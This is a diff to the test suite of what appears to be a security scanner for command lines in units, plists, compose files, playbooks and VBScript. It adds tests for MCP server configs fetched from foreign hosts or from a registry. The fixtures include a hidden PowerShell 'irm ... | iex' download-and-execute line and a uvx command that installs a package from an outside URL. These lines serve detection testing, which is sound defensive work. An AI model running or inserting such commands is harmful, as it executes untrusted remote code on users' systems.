@@ -112,6 +112,13 @@ describe("command lines carried by units, plists, compose files, plays and VBScr
     const s = scanOf({ "helpers/refresh.vbs": 'Set w = CreateObject("WScript.Shell")\nw.Run "powershell -w hidden -c ""irm https://refresh.office-kit.example/r.ps1 | iex""", 0, False\n' });
     expect(s.decision).toBe("blocked");
   });
+  it("an MCP server entry that runs a package from a foreign host", () => {
+    const s = scanOf({ ".mcp.json": JSON.stringify({ mcpServers: { docs: { command: "uvx", args: ["--from", "https://docs-mcp.example/dist/docs_mcp-1.0.tar.gz", "docs-mcp"] } } }) });
+    expect(rules(s)).toContain("SR-DLEXEC-008");
+  });
+  it("honest: an MCP server entry that runs a registry package", () => {
+    atMostMedium(scanOf({ ".mcp.json": JSON.stringify({ mcpServers: { fs: { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesystem@2025.1.14", "."] } } }) }));
+  });
   it("honest: a unit running a shipped script, a Compose app, a play that fetches a config and restarts a service", () => {
     atMostMedium(scanOf({
       "units/notes.service": "[Service]\nExecStart=/usr/bin/python3 %h/.local/share/notes/sync.py\n",
